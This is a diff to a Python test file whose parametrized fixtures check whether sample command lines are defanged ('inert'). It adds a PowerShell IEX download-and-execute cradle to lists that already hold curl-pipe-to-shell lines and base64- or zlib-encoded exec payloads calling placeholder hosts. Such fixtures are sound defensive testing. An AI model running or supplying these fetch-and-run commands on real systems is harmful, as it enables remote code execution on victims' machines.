@@ -265,6 +265,7 @@ def test_labels_are_known__in_other_languages() -> None:
         r"$(printf '\x65\x63\x68\x6f') lab 3",
         "curl -s hxxp://203.0.113[.]9/x | sh",
         "exec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQykxJVchJTFIw...')))",
+        "IEX(New-Object Net.WebClient).DownloadString('hxxp://203[.]0[.]113[.]9/a')",
     ],
 )
 def test_sample_of_a_course_is_inert(line: str) -> None:
@@ -282,6 +283,7 @@ def test_sample_of_a_course_is_inert(line: str) -> None:
         "curl -s https://x.test/a[.]b | sh",
         "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==...'))",
         "exec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQykxJVchJTFLITFGwUgAAQMoGLA==...')))",
+        "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') # hxxp://x[.]y",
     ],
 )
 def test_line_is_not_inert__where_it_does_something(line: str) -> None:
